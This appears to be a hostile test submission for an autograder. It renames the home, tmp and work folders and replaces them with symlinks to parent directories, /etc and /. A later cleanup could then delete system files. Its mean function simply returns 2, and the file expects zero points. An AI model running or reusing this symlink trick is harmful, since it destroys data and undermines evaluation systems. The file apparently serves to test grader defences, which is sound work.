# ---
# tries: makes its own scratch folder a link to other folders, which cleaning up would then empty
# points: {test_mean: 0}
# ---
# %% answer mean
import os

work = os.getcwd()
root = os.path.dirname(work)
for name in ("home", "tmp", "work"):
    try:
        os.rename(f"{root}/{name}", f"{root}/hostile_{name}")
        os.symlink(os.path.dirname(root), f"{root}/{name}")
    except OSError:
        pass
os.makedirs(f"{root}/hostile", exist_ok=True)
for target in ("/etc", "/", "/tmp", os.path.dirname(root)):
    os.symlink(target, f"{root}/hostile/" + target.strip("/").replace("/", "_") + "_")

def mean(x):
    return 2
